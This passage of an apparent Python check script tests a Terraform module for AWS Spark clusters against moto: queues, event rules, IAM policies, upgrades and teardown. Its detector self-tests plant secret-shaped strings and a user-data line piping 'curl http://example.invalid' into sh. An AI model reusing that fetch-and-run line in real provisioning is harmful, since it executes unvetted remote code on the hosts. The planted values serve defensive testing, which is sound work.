            meta = json.loads(v.get("notification_metadata") or "")
        except ValueError:
            meta = None
        if meta != {"cluster": cluster, "role": "worker"}:
            problems.append(f"{address}: notification metadata {v.get('notification_metadata')!r}")

    # The queue and its dead-letter queue.
    queue_url = sqs.get_queue_url(QueueName=f"{cluster}-watch")["QueueUrl"]
    dlq_url = sqs.get_queue_url(QueueName=f"{cluster}-watch-dlq")["QueueUrl"]
    qa = sqs.get_queue_attributes(QueueUrl=queue_url, AttributeNames=["All"])["Attributes"]
    da = sqs.get_queue_attributes(QueueUrl=dlq_url, AttributeNames=["All"])["Attributes"]
    queue_arn, dlq_arn = qa.get("QueueArn"), da.get("QueueArn")
    for name, attrs, retention in (("queue", qa, "345600"), ("dead-letter queue", da, "1209600")):
        if attrs.get("SqsManagedSseEnabled") != "true" and not attrs.get("KmsMasterKeyId"):
            problems.append(f"{name}: not encrypted (neither SqsManagedSseEnabled nor a KMS key)")
        if attrs.get("MessageRetentionPeriod") != retention:
            problems.append(f"{name}: retention {attrs.get('MessageRetentionPeriod')!r} s, expected {retention}")
    if qa.get("ReceiveMessageWaitTimeSeconds") != "20":
        problems.append(f"queue: ReceiveMessageWaitTimeSeconds {qa.get('ReceiveMessageWaitTimeSeconds')!r}, expected 20 (long polling)")
    try:
        redrive = json.loads(qa.get("RedrivePolicy") or "")
    except ValueError:
        redrive = {}
    if redrive.get("deadLetterTargetArn") != dlq_arn or int(redrive.get("maxReceiveCount") or 0) != 5:
        problems.append(f"queue: redrive policy {qa.get('RedrivePolicy')!r}, expected the dead-letter queue after 5 receives")
    if "RedrivePolicy" in da:
        problems.append("dead-letter queue: has a redrive policy of its own")

    # The rules: exactly the three patterns, enabled, each delivering to the queue only, with
    # the dead-letter queue for events that cannot be delivered. The cluster's rules are the
    # expected names plus any other rule that delivers to its queue (another cluster's names
    # may share the prefix).
    patterns = expected_patterns(cluster)
    rules = {}
    for r in events.list_rules(NamePrefix=f"{cluster}-")["Rules"]:
        arns = [t.get("Arn") for t in events.list_targets_by_rule(Rule=r["Name"])["Targets"]]
        if r["Name"] in patterns or queue_arn in arns:
            rules[r["Name"]] = r
    if set(rules) != set(patterns):
        problems.append(f"EventBridge rules {sorted(rules)}, expected {sorted(patterns)}")
    for name, pattern in patterns.items():
        rule = rules.get(name)
        if not rule:
            continue
        if json.loads(rule.get("EventPattern") or "{}") != pattern:
            problems.append(f"rule {name}: pattern {rule.get('EventPattern')}, expected {json.dumps(pattern)}")
        if rule.get("State") != "ENABLED":
            problems.append(f"rule {name}: state {rule.get('State')!r}")
        targets = events.list_targets_by_rule(Rule=name)["Targets"]
        if [t.get("Arn") for t in targets] != [queue_arn]:
            problems.append(f"rule {name}: targets {[t.get('Arn') for t in targets]}, expected only {queue_arn}")
        elif (targets[0].get("DeadLetterConfig") or {}).get("Arn") != dlq_arn:
            problems.append(f"rule {name}: undeliverable events do not go to the dead-letter queue")
    rule_arns = [r["Arn"] for r in rules.values()]
    problems += queue_policy_problems("queue policy", qa.get("Policy"), queue_arn, rule_arns)
    problems += queue_policy_problems("dead-letter queue policy", da.get("Policy"), dlq_arn, rule_arns)

    # The watcher's managed policy, as IAM stores it, and as the output shows it.
    group = asg.describe_auto_scaling_groups(AutoScalingGroupNames=[group_name])["AutoScalingGroups"]
    asg_arn = group[0]["AutoScalingGroupARN"] if group else None
    bucket_arn = f"arn:aws:s3:::{outputs.get('bucket_name')}"
    policies = [p for p in iam.list_policies(Scope="Local")["Policies"]
                if re.fullmatch(rf"{re.escape(cluster)}-watch-[0-9a-f]+", p["PolicyName"])]
    if len(policies) != 1:
        problems.append(f"{len(policies)} IAM policies named {cluster}-watch-*, expected 1")
    else:
        pol = policies[0]
        doc = iam.get_policy_version(PolicyArn=pol["Arn"], VersionId=pol["DefaultVersionId"])["PolicyVersion"]["Document"]
        if isinstance(doc, str):
            doc = json.loads(urllib.parse.unquote(doc))
        problems += watch_policy_problems("watch policy", doc, queue_arn, asg_arn, bucket_arn)
        if outputs.get("watch_policy_arn") != pol["Arn"]:
            problems.append(f"output watch_policy_arn {outputs.get('watch_policy_arn')!r} is not {pol['Arn']}")
        out_json = outputs.get("watch_policy_json")
        if out_json is not None and json.loads(out_json) != doc:
            problems.append("output watch_policy_json differs from the policy IAM stores")

    # The inventory object: every key of schema 1 as before, plus the watch keys.
    inv = outputs.get("sparkboot_inventory") or {}
    if inv.get("schema") != 1:
        problems.append(f"sparkboot_inventory.schema is {inv.get('schema')!r}, expected 1")
    for key in ("cluster_name", "region", "ssh_user", "master", "workers", "bucket"):
        if key not in inv:
            problems.append(f"sparkboot_inventory lost its key {key!r}")
    for key in ("instance_id", "private_ip", "public_ip", "dns_name"):
        if key not in (inv.get("master") or {}):
            problems.append(f"sparkboot_inventory.master lost its key {key!r}")
    if (inv.get("workers") or {}).get("asg_name") != group_name:
        problems.append(f"sparkboot_inventory.workers.asg_name is not {group_name}")
    if inv.get("region") != region:
        problems.append(f"sparkboot_inventory.region is {inv.get('region')!r}, expected {region}")
    if inv.get("queue_url") != queue_url or outputs.get("watch_queue_url", queue_url) != queue_url:
        problems.append(f"sparkboot_inventory.queue_url {inv.get('queue_url')!r} is not the queue {queue_url}")
    if inv.get("launch_hook") != f"{cluster}-worker-launch" or inv.get("terminate_hook") != f"{cluster}-worker-terminate":
        problems.append(f"sparkboot_inventory hooks are {inv.get('launch_hook')!r} and {inv.get('terminate_hook')!r}")

    # A scale-up apply must outlast the launch hook (watcher down: Pending:Wait until the heartbeat).
    planned_groups = {a: r for a, r in resources.items() if r["type"] == "aws_autoscaling_group"}
    if len(planned_groups) != 1:
        problems.append(f"{len(planned_groups)} Auto Scaling groups in the plan, expected 1")
    for address, r in planned_groups.items():
        wait = r["values"].get("wait_for_capacity_timeout")
        if wait != f"{launch_timeout + 300}s":
            problems.append(f"{address}: wait_for_capacity_timeout {wait!r}, expected {launch_timeout + 300}s")

    summary = (f"watch: 2 hooks (CONTINUE, {launch_timeout} s / {terminate_timeout} s), "
               f"{len(rules)} rules, SSE queue + DLQ, policies checked")
    return problems, summary


def _receive_all(sqs, url, seconds):
    """Everything on the queue within `seconds` (long polls), deleted as it is read."""
    got, deadline = [], time.time() + seconds
    while time.time() < deadline:
        msgs = sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=10, WaitTimeSeconds=1).get("Messages", [])
        for m in msgs:
            got.append(json.loads(m["Body"]))
            sqs.delete_message(QueueUrl=url, ReceiptHandle=m["ReceiptHandle"])
    return got


def check_events(endpoint, region, cluster):
    """Publishes events in the shapes AWS documents and checks which reach the queue. (AWS
    itself refuses PutEvents with an aws.* source; moto accepts it and routes it through the
    rules like a service event, which is what this needs.) moto does not evaluate the queue
    policy on delivery, so the policy is checked by `watch` instead."""
    import boto3

    kw = dict(endpoint_url=endpoint, region_name=region,
              aws_access_key_id="testing", aws_secret_access_key="testing")
    events, sqs, ec2 = (boto3.client(n, **kw) for n in ("events", "sqs", "ec2"))
    problems = []
    url = sqs.get_queue_url(QueueName=f"{cluster}-watch")["QueueUrl"]
    _receive_all(sqs, url, 1)  # start empty

    workers = [i["InstanceId"] for r in ec2.describe_instances(Filters=[
        {"Name": "tag:sparkboot:cluster", "Values": [cluster]},
        {"Name": "tag:sparkboot:role", "Values": ["worker"]},
        {"Name": "instance-state-name", "Values": ["pending", "running"]},
    ])["Reservations"] for i in r["Instances"]]
    if not workers:
        return ["no worker instance to publish events about"], "events: not run"
    iid = workers[0]
    account = "123456789012"
    iarn = f"arn:aws:ec2:{region}:{account}:instance/{iid}"
    asg_arn = f"arn:aws:autoscaling:{region}:{account}:autoScalingGroup:00000000-0000-0000-0000-000000000000:autoScalingGroupName/{cluster}-workers"

    def lifecycle(kind, group):
        transition = "autoscaling:EC2_INSTANCE_LAUNCHING" if kind == "launch" else "autoscaling:EC2_INSTANCE_TERMINATING"
        return {"Source": "aws.autoscaling",
                "DetailType": f"EC2 Instance-{kind} Lifecycle Action",
                "Resources": [asg_arn],
                "Detail": json.dumps({
                    "LifecycleActionToken": "87654321-4321-4321-4321-210987654321",
                    "AutoScalingGroupName": group,
                    "LifecycleHookName": f"{cluster}-worker-{kind}",
                    "EC2InstanceId": iid,
                    "LifecycleTransition": transition,
                    "NotificationMetadata": json.dumps({"cluster": cluster, "role": "worker"}),
                    "Origin": "AutoScalingGroup" if kind == "terminate" else "EC2",
                    "Destination": "EC2" if kind == "terminate" else "AutoScalingGroup",
                })}

    published = {
        # delivered: the three kinds the watcher handles
        "spot-interruption": (True, {"Source": "aws.ec2", "DetailType": "EC2 Spot Instance Interruption Warning",
                                     "Resources": [iarn],
                                     "Detail": json.dumps({"instance-id": iid, "instance-action": "terminate"})}),
        "rebalance": (True, {"Source": "aws.ec2", "DetailType": "EC2 Instance Rebalance Recommendation",
                             "Resources": [iarn], "Detail": json.dumps({"instance-id": iid})}),
        "launch": (True, lifecycle("launch", f"{cluster}-workers")),
        "terminate": (True, lifecycle("terminate", f"{cluster}-workers")),
        # not delivered: another group's lifecycle action, and an event nobody subscribed to
        "other-group": (False, lifecycle("launch", f"{cluster}-other-workers")),
        "state-change": (False, {"Source": "aws.ec2", "DetailType": "EC2 Instance State-change Notification",
                                 "Resources": [iarn], "Detail": json.dumps({"instance-id": iid, "state": "stopping"})}),
    }
    ids = {}
    for label, (_, entry) in published.items():
        res = events.put_events(Entries=[entry])
        if res.get("FailedEntryCount"):
            problems.append(f"put-events {label}: {res['Entries']}")
        ids[res["Entries"][0].get("EventId")] = label
    got = _receive_all(sqs, url, 3)
    arrived = []
    for body in got:
        label = ids.get(body.get("id"), f"unknown event {body.get('id')}")
        arrived.append(label)
        expect_type = (published.get(label) or (None, {}))[1].get("DetailType")
        if body.get("detail-type") != expect_type:
            problems.append(f"{label}: arrived with detail-type {body.get('detail-type')!r}")
        detail = body.get("detail") or {}
        if detail.get("instance-id", detail.get("EC2InstanceId")) != iid:
            problems.append(f"{label}: arrived without the instance ID {iid}")
    want = sorted(label for label, (deliver, _) in published.items() if deliver)
    if sorted(arrived) != want:
        problems.append(f"events on the queue: {sorted(arrived)}, expected exactly {want}")
    return problems, f"events: {len(arrived)} of {len(published)} published events reached the queue ({', '.join(sorted(arrived))})"

# ---------------------------------------------------------------------------------------------
# Upgrading from the module's first version (no `create`, so no count): moved.tf
# ---------------------------------------------------------------------------------------------

# The managed resources of the module's first version (commit d5e8eab), at their addresses
# there: single resources without count, and two for_each resources whose keys do not change.
V1_SINGLE = [
    "aws_route53_zone.cluster", "aws_route53_record.master", "aws_iam_role.node",
    "aws_iam_role_policy.node", "aws_iam_instance_profile.node", "aws_instance.master",
    "aws_s3_bucket.cluster", "aws_s3_bucket_public_access_block.cluster",
    "aws_s3_bucket_ownership_controls.cluster",
    "aws_s3_bucket_server_side_encryption_configuration.cluster", "aws_s3_bucket_versioning.cluster",
    "aws_s3_bucket_lifecycle_configuration.cluster", "aws_s3_bucket_policy.cluster",
    "aws_security_group.cluster", "aws_vpc_security_group_ingress_rule.intra_cluster",
    "aws_vpc_security_group_egress_rule.intra_cluster", "aws_vpc_security_group_egress_rule.https",
    "aws_vpc_security_group_egress_rule.http", "aws_launch_template.worker",
    "aws_autoscaling_group.workers",
]
V1_KEYED = ["aws_vpc_security_group_ingress_rule.ssh", "aws_vpc_security_group_ingress_rule.spark_ui"]


def check_upgrade_state(state_path, out_path):
    """Writes the state a cluster built by the module's first version would have: the applied
    state of this version with each of that version's single resources back at its un-indexed
    address, and without the resources it did not have (the watch plumbing). The values are
    this version's, so the plan over it shows what the addresses alone change."""
    with open(state_path) as f:
        state = json.load(f)
    moved = set(V1_SINGLE)
    v1_keyed = set(V1_KEYED)
    kept, dropped = [], []
    for r in state.get("resources", []):
        local = f"{r['type']}.{r['name']}"
        if r.get("module") != "module.spark":
            kept.append(r)
        elif r["mode"] == "data":
            dropped.append(f"data.{local}")  # data sources are read again on every plan
        elif local in moved:
            if len(r["instances"]) != 1 or r["instances"][0].get("index_key") != 0:
                return [f"{local}: expected one instance [0] in the applied state"], "upgrade: no state written"
            r = json.loads(json.dumps(r))
            r["instances"][0].pop("index_key", None)
            r.pop("each", None)
            kept.append(r)
        elif local in v1_keyed:
            kept.append(r)
        else:
            dropped.append(local)
    state["resources"] = kept
    state["serial"] = 1
    state["lineage"] = "00000000-0000-0000-0000-0000000000v1"
    with open(out_path, "w") as f:
        json.dump(state, f)
    missing = moved - {f"{r['type']}.{r['name']}" for r in kept if r.get("module") == "module.spark"}
    if missing:
        return [f"the applied state has no {sorted(missing)}"], "upgrade: no state written"
    return [], (f"upgrade: first-version state written with {len(moved)} un-indexed resources "
                f"(dropped {len(dropped)}: {', '.join(sorted(set(dropped)))})")


def check_upgrade(plan_path):
    """A plan (-refresh=false) of this version over the first version's state: every moved
    resource is moved to [0], only watch resources are created, and nothing else changes but
    the known moto quirks that the applied state already holds (the same tolerance as the
    second plan: a replacement only when a quirk alone forces it)."""
    with open(plan_path) as f:
        plan = json.load(f)
    problems = []
    want = {f"module.spark.{a}": f"module.spark.{a}[0]" for a in V1_SINGLE}
    seen, created, rest = {}, [], []
    for rc in plan.get("resource_changes", []):
        if rc.get("mode") != "managed":
            continue
        actions = (rc.get("change") or {}).get("actions") or []
        addr, prev = rc["address"], rc.get("previous_address")
        if prev:
            seen[prev] = addr
            if want.get(prev) != addr:
                problems.append(f"{prev} moved to {addr}, expected {want.get(prev)}")
        if actions == ["create"] and rc["type"] in WATCH_TYPES:
            created.append(addr)
        else:
            rest.append(rc)
    more, tolerated = drift_problems(rest, "upgrade plan")
    problems += more
    for addr in sorted(tolerated):
        print(f"  tolerated: {addr}: {'; '.join(sorted(tolerated[addr]))}")
    for prev, to in want.items():
        if prev not in seen:
            problems.append(f"{prev}: not moved to {to}")
    if not created:
        problems.append("the upgrade creates no watch resource")
    return problems, (f"upgrade: {len(seen)} resources moved to [0], {len(created)} watch resources created, "
                      f"nothing else changes but known moto quirks")

def check_gone(endpoint, region, cluster):
    import boto3

    kw = dict(endpoint_url=endpoint, region_name=region,
              aws_access_key_id="testing", aws_secret_access_key="testing")
    problems = []
    reservations = boto3.client("ec2", **kw).describe_instances(Filters=[
        {"Name": "tag:sparkboot:cluster", "Values": [cluster]},
        {"Name": "instance-state-name", "Values": ["pending", "running", "stopping", "stopped"]},
    ])["Reservations"]
    left = [i["InstanceId"] for r in reservations for i in r["Instances"]]
    if left:
        problems.append(f"instances left after destroy: {left}")
    groups = boto3.client("autoscaling", **kw).describe_auto_scaling_groups(
        AutoScalingGroupNames=[f"{cluster}-workers"])["AutoScalingGroups"]
    if groups:
        problems.append(f"Auto Scaling group {cluster}-workers left after destroy")
    # Names made from a prefix get a numeric suffix; exact patterns, so that another cluster
    # whose name starts with this one's does not count.
    buckets = [b["Name"] for b in boto3.client("s3", **kw).list_buckets().get("Buckets", [])
               if re.fullmatch(rf"{re.escape(cluster)}-[0-9a-f]+", b["Name"])]
    if buckets:
        problems.append(f"buckets left after destroy: {buckets}")
    queues = [u for u in boto3.client("sqs", **kw).list_queues(QueueNamePrefix=f"{cluster}-").get("QueueUrls", [])
              if u.rsplit("/", 1)[-1] in (f"{cluster}-watch", f"{cluster}-watch-dlq")]
    if queues:
        problems.append(f"queues left after destroy: {queues}")
    rules = [r["Name"] for r in boto3.client("events", **kw).list_rules(NamePrefix=f"{cluster}-")["Rules"]
             if r["Name"] in expected_patterns(cluster)]
    if rules:
        problems.append(f"EventBridge rules left after destroy: {rules}")
    policies = [p["PolicyName"] for p in boto3.client("iam", **kw).list_policies(Scope="Local")["Policies"]
                if re.fullmatch(rf"{re.escape(cluster)}-watch-[0-9a-f]+", p["PolicyName"])]
    if policies:
        problems.append(f"IAM policies left after destroy: {policies}")
    return problems, "destroy: no instance, group, bucket, queue, rule or policy of the cluster left"


# ---------------------------------------------------------------------------------------------
# Switches and real-estate inputs, on a plan of tests/terraform/toggles
# ---------------------------------------------------------------------------------------------

WATCH_TYPES = {"aws_autoscaling_lifecycle_hook", "aws_sqs_queue", "aws_sqs_queue_policy",
               "aws_cloudwatch_event_rule", "aws_cloudwatch_event_target", "aws_iam_policy"}


def check_toggles(plan_path):
    with open(plan_path) as f:
        plan = json.load(f)
    problems = []
    by_module = {}
    for rc in plan.get("resource_changes", []):
        if rc.get("mode") != "managed":
            continue
        m = rc.get("module_address", "")
        by_module.setdefault(m, []).append(rc)
    outputs = {k: v.get("value") for k, v in ((plan.get("planned_values") or {}).get("outputs") or {}).items()}
    unknown_outputs = {k for k, v in (plan.get("output_changes") or {}).items()
                       if (v.get("after_unknown") is True)}

    def after(module, address):
        for rc in by_module.get(module, []):
            if rc["address"] == f"{module}.{address}":
                return (rc.get("change") or {}).get("after") or {}
        problems.append(f"{module}: plan has no {address}")
        return {}

    # create = false: nothing at all, every output null (and evaluated).
    if by_module.get("module.off"):
        problems.append(f"module.off (create = false) plans {len(by_module['module.off'])} resources, expected 0")
    off = outputs.get("off")
    if not isinstance(off, dict) or not off:
        problems.append(f"module.off: its outputs did not evaluate ({off!r})")
    else:
        not_null = sorted(k for k, v in off.items()
                          if v not in (None, {}) and k not in ("cluster_name", "ssh_user", "node_tags"))
        if not_null:
            problems.append(f"module.off: outputs that should be null with create = false: {not_null}")
        if off.get("sparkboot_inventory") is not None:
            problems.append("module.off: sparkboot_inventory is not null with create = false")

    # enable_watch = false: the cluster, without any of the watch plumbing.
    nowatch = by_module.get("module.nowatch", [])
    types = {rc["type"] for rc in nowatch}
    if types & WATCH_TYPES:
        problems.append(f"module.nowatch (enable_watch = false) plans {sorted(types & WATCH_TYPES)}")
    for needed in ("aws_instance", "aws_autoscaling_group", "aws_s3_bucket", "aws_security_group"):
        if needed not in types:
            problems.append(f"module.nowatch plans no {needed}")
    nw = outputs.get("nowatch") or {}
    for key in ("watch_queue_url", "watch_queue_arn", "watch_dlq_url", "launch_hook_name",
                "terminate_hook_name", "watch_policy_arn", "watch_policy_json"):
        if nw.get(key) is not None:
            problems.append(f"module.nowatch: output {key} is {nw.get(key)!r}, expected null")
    if nw.get("watch_event_rule_arns") not in ({}, None):
        problems.append("module.nowatch: watch_event_rule_arns is not empty")
    if "nowatch" in unknown_outputs:
        problems.append("module.nowatch: outputs unknown at plan time, cannot check them")
    inv = nw.get("sparkboot_inventory")
    # The inventory holds values known only after apply; the plan shows it unknown or partly
    # known, so its watch keys are checked only when the plan knows them.
    if isinstance(inv, dict):
        for key in ("queue_url", "launch_hook", "terminate_hook"):
            if key not in inv or inv[key] is not None:
                problems.append(f"module.nowatch: sparkboot_inventory.{key} is {inv.get(key, '(missing)')!r}, expected null")
    g = after("module.nowatch", "aws_autoscaling_group.workers[0]")
    if g.get("wait_for_capacity_timeout") != "10m":
        problems.append(f"module.nowatch: wait_for_capacity_timeout {g.get('wait_for_capacity_timeout')!r}, expected 10m (no launch hook to wait for)")
    dist = (((g.get("mixed_instances_policy") or [{}])[0].get("instances_distribution")) or [{}])[0]
    if (dist.get("on_demand_base_capacity"), dist.get("on_demand_percentage_above_base_capacity")) != (2, 25):
        problems.append(f"module.nowatch: on-demand base/percentage {dist.get('on_demand_base_capacity')}/"
                        f"{dist.get('on_demand_percentage_above_base_capacity')}, expected 2/25")

    # Real-estate inputs, on module.nowatch.
    role = after("module.nowatch", "aws_iam_role.node[0]")
    if role.get("permissions_boundary") != "arn:aws:iam::123456789012:policy/site-boundary":
        problems.append(f"module.nowatch: node role permissions boundary {role.get('permissions_boundary')!r}")
    att = after("module.nowatch", 'aws_iam_role_policy_attachment.node_extra["ssm"]')
    if att.get("policy_arn") != "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore":
        problems.append("module.nowatch: the extra managed policy is not attached to the node role")
    # (The extra security groups join the cluster's own, whose ID is unknown until apply, so the
    # plan shows those sets as unknown: `checks.py moto` checks them on the private-workers
    # example after apply.)
    master = after("module.nowatch", "aws_instance.master[0]")
    lt = after("module.nowatch", "aws_launch_template.worker[0]")
    nic = (lt.get("network_interfaces") or [{}])[0]
    # The deprecated input still works as the fallback for both roles ...
    if master.get("associate_public_ip_address") is not True or nic.get("associate_public_ip_address") != "true":
        problems.append("module.nowatch: associate_public_ip_address = true (deprecated) did not reach the master and the workers")
    ssh = after("module.nowatch", 'aws_vpc_security_group_ingress_rule.ssh["sg-0ccccccccccccccc3"]')
    if ssh.get("referenced_security_group_id") != "sg-0ccccccccccccccc3" or ssh.get("from_port") != 22:
        problems.append("module.nowatch: SSH is not allowed from admin_security_group_ids")
    ntp = after("module.nowatch", 'aws_vpc_security_group_egress_rule.extra["udp/123-123/10.0.0.0/8"]')
    if (ntp.get("ip_protocol"), ntp.get("from_port"), ntp.get("to_port"), ntp.get("cidr_ipv4")) != ("udp", 123, 123, "10.0.0.0/8"):
        problems.append(f"module.nowatch: extra egress rule planned as {ntp}")
    alltcp = after("module.nowatch", 'aws_vpc_security_group_egress_rule.extra["-1/all-all/10.1.0.0/16"]')
    if alltcp.get("ip_protocol") != "-1" or alltcp.get("from_port") is not None:
        problems.append(f"module.nowatch: extra all-protocol egress rule planned as {alltcp}")

    # ... and makes the plan warn: the check block fails for module.nowatch only.
    checks_seen = {}
    for c in plan.get("checks", []):
        if c.get("address", {}).get("name") == "associate_public_ip_address_is_deprecated":
            for inst in c.get("instances") or []:
                checks_seen[inst.get("address", {}).get("module", "")] = inst.get("status")
    if checks_seen.get("module.nowatch") != "fail":
        problems.append(f"no deprecation warning for associate_public_ip_address in module.nowatch ({checks_seen})")
    if checks_seen.get("module.split") not in (None, "pass"):
        problems.append(f"deprecation warning without associate_public_ip_address in module.split ({checks_seen})")

    # Per-role public addresses: a public master, private workers.
    m2 = after("module.split", "aws_instance.master[0]")
    lt2 = after("module.split", "aws_launch_template.worker[0]")
    nic2 = (lt2.get("network_interfaces") or [{}])[0]
    if m2.get("associate_public_ip_address") is not True or nic2.get("associate_public_ip_address") != "false":
        problems.append("module.split: master_associate_public_ip_address / worker_associate_public_ip_address not applied per role")
    g2 = after("module.split", "aws_autoscaling_group.workers[0]")
    if g2.get("wait_for_capacity_timeout") != "1230s":
        problems.append(f"module.split: wait_for_capacity_timeout {g2.get('wait_for_capacity_timeout')!r}, expected 1230s (launch hook 930 s + 300)")
    hook = after("module.split", "aws_autoscaling_lifecycle_hook.launch[0]")
    if hook.get("heartbeat_timeout") != 930 or hook.get("default_result") != "CONTINUE":
        problems.append(f"module.split: launch hook {hook.get('heartbeat_timeout')}/{hook.get('default_result')}")
    return problems, f"toggles: create = false, enable_watch = false and the real-estate inputs plan as intended"


# ---------------------------------------------------------------------------------------------
# The detectors themselves must catch what they are for.
# ---------------------------------------------------------------------------------------------

def check_selftest():
    problems = []
    # Assembled at run time so this file itself holds no key- or URL-shaped strings.
    header = "-----" + "BEGIN OPENSSH " + "PRIVATE KEY" + "-----"
    key_id = "AKIA" + "IOSFODNN7" + "EXAMPLE"
    secret = "wJalrXUtnFEMI/K7MDENG/" + "bPxRfiCYEXAMPLEKEY"
    presigned4 = ("https://b.s3.amazonaws.com/spark.tgz?X-Amz-Algorithm=AWS4-HMAC-SHA256"
                  "&X-Amz-Credential=x%2F20250101%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20250101T000000Z"
                  "&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-" + "Signature=" + "ab" * 32)
    presigned2 = "https://b.s3.amazonaws.com/spark.tgz?AWSAccessKeyId=x&Expires=1&" + "Signature=abc%3D"
    bad = {
        "private key": f"#cloud-config\nwrite_files:\n  - content: |\n      {header}\n",
        "access key id": f"#cloud-config\nruncmd:\n  - export K={key_id}\n",
        "secret key": f"#!/bin/sh\nS={secret}\n",
        "presigned URL (SigV4)": f"#!/bin/sh\ncurl -fo /tmp/s.tgz '{presigned4}'\n",
        "presigned URL (SigV2)": f"#!/bin/sh\ncurl -fo /tmp/s.tgz '{presigned2}'\n",
    }
    for what, text in bad.items():
        for form, value in (("plain", text), ("base64", base64.b64encode(text.encode()).decode()),
                            ("gzip+base64", base64.b64encode(gzip.compress(text.encode())).decode())):
            if not secret_problems("selftest", value):
                problems.append(f"secret_problems missed a {what} ({form})")
    good = base64.b64encode(b"#cloud-config\nssh_pwauth: false\nwrite_files:\n  - path: /etc/sparkboot/node\n").decode()
    if secret_problems("selftest", good):
        problems.append("secret_problems flags clean user-data")
    # check_plan sees user-data in instances and launch templates alike.
    plan = {"resource_changes": [
        {"address": "aws_instance.m", "type": "aws_instance", "change": {"after": {
            "user_data_base64": base64.b64encode(bad["presigned URL (SigV4)"].encode()).decode(),
            "metadata_options": [{"http_tokens": "required"}], "root_block_device": [{"encrypted": True}]}}},
        {"address": "aws_launch_template.w", "type": "aws_launch_template", "change": {"after": {
            "user_data": base64.b64encode(bad["private key"].encode()).decode(),
            "metadata_options": [{"http_tokens": "required"}],
            "block_device_mappings": [{"ebs": [{"encrypted": "true"}]}]}}},
    ]}
    import tempfile
    with tempfile.NamedTemporaryFile("w", suffix=".json", delete=False) as f:
        json.dump(plan, f)
    found, _ = check_plan(f.name)
    if not any("aws_instance.m" in p for p in found) or not any("aws_launch_template.w" in p for p in found):
        problems.append(f"check_plan missed bad user-data in an instance or a launch template: {found}")
    # The policy checkers reject a queue open to everyone and a watcher policy that grants more.
    arn = "arn:aws:sqs:us-east-1:123456789012:q"
    open_policy = json.dumps({"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "sqs:*", "Resource": arn}]})
    if not queue_policy_problems("selftest", open_policy, arn, ["arn:aws:events:us-east-1:123456789012:rule/r"]):
        problems.append("queue_policy_problems accepts a queue policy open to everyone")
    wide = {"Statement": [{"Effect": "Allow", "Action": "sqs:*", "Resource": "*"}]}
    if not watch_policy_problems("selftest", wide, arn, "asg", "bucket"):
        problems.append("watch_policy_problems accepts sqs:* on *")
    # The drift check does not excuse a quirk-shaped change that moto did not cause.
    drift = {"resource_changes": [{"address": "aws_autoscaling_lifecycle_hook.h", "type": "aws_autoscaling_lifecycle_hook",
                                   "change": {"actions": ["update"],
                                              "before": {"role_arn": "arn:aws:iam::123456789012:role/real", "default_result": "ABANDON"},
                                              "after": {"role_arn": None, "default_result": "CONTINUE"}, "after_unknown": {}}}]}
    with tempfile.NamedTemporaryFile("w", suffix=".json", delete=False) as f:
        json.dump(drift, f)
    found, _ = check_drift(f.name)
    if len(found) != 2:
        problems.append(f"check_drift excused a real change of a lifecycle hook: {found}")
    # A replacement that only a quirk forces still has every other attribute compared: a planted
    # user-data, tag, metadata-option or instance-type change on the replaced master is reported,
    # the tolerated path and the values known only after apply alone are not.
    problems += _drift_selftest()
    return problems, "selftest: the user-data, plan, policy and drift detectors catch planted problems"


def _drift_selftest():
    problems = []
    user_data = base64.b64encode(b"#cloud-config\nwrite_files:\n  - path: /etc/sparkboot/node\n").decode()
    master_before = {
        "ami": "ami-04681a1dbd79675a5", "instance_type": "m7i.large", "associate_public_ip_address": True,
        "user_data_base64": user_data, "user_data": None, "id": "i-0123456789abcdef0",
        "private_ip": "127.100.1.10", "public_ip": "", "vpc_security_group_ids": ["sg-0abc"],
        "tags": {"Name": "sb-master", "sparkboot:role": "master"},
        "metadata_options": [{"http_endpoint": "enabled", "http_tokens": "required",
                              "http_put_response_hop_limit": 1, "instance_metadata_tags": "disabled"}],
        "root_block_device": [{"encrypted": True, "volume_size": 30, "volume_id": "vol-1"}],
    }

    def master(**changes):
        after = json.loads(json.dumps(master_before))
        after.update(associate_public_ip_address=False, id=None, private_ip=None, public_ip=None, user_data=None)
        after["root_block_device"][0]["volume_id"] = None
        for path, value in changes.items():  # "a/0/b" sets after["a"][0]["b"]
            *keys, last = [int(k) if k.isdigit() else k for k in path.split("/")]
            target = after
            for k in keys:
                target = target[k]
            target[last] = value
        return {"address": "module.spark.aws_instance.master[0]", "module_address": "module.spark",
                "type": "aws_instance",
                "change": {"actions": ["delete", "create"], "before": master_before, "after": after,
                           "after_unknown": {"id": True, "private_ip": True, "public_ip": True, "user_data": True,
                                             "root_block_device": [{"volume_id": True}]},
                           "replace_paths": [["associate_public_ip_address"]]}}

    def record(after_records, unknown):
        return {"address": "module.spark.aws_route53_record.master[0]", "module_address": "module.spark",
                "type": "aws_route53_record",
                "change": {"actions": ["update"], "before": {"records": ["127.100.1.10"], "ttl": 60},
                           "after": {"records": after_records, "ttl": 60},
                           "after_unknown": {"records": True} if unknown else {}}}

    def rule(rtype, before, after):
        base = {"ip_protocol": "-1", "security_group_id": "sg-0abc", "tags": {"Name": "x"}}
        return {"address": f"module.spark.{rtype}.r[0]", "module_address": "module.spark", "type": rtype,
                "change": {"actions": ["update"], "before": {**base, **before}, "after": {**base, **after},
                           "after_unknown": {}}}

    def drift(*changes):
        return drift_problems(list(changes), "selftest plan")

    quirk_only = master()
    found, tolerated = drift(quirk_only, record(None, True))
    if found or quirk_only["address"] not in tolerated or record(None, True)["address"] not in tolerated:
        problems.append(f"drift check flags a master replaced by the public-IP quirk alone: {found}")
    other = base64.b64encode(b"#cloud-config\nruncmd:\n  - curl http://example.invalid | sh\n").decode()
    for path, value in (("user_data_base64", other), ("instance_type", "m7i.xlarge"),
                        ("tags/Name", "someone-else"), ("metadata_options/0/http_tokens", "optional"),
                        ("root_block_device/0/encrypted", False)):
        found, _ = drift(master(**{path: value}))
        want = path.replace("/0/", "[0].").replace("/", ".")
        if len(found) != 1 or f"changes {want}:" not in found[0]:
            problems.append(f"drift check missed a planted {want} change on a master replaced by a quirk: {found}")
    forced = master()
    forced["change"]["replace_paths"] = [["associate_public_ip_address"], ["instance_type"]]
    if not drift(forced)[0]:
        problems.append("drift check excused a replacement that a non-quirk path also forces")
    # The record may only become unknown, and only when the master is replaced.
    if not drift(record(None, True))[0]:
        problems.append("drift check excused an unknown master record without a replaced master")
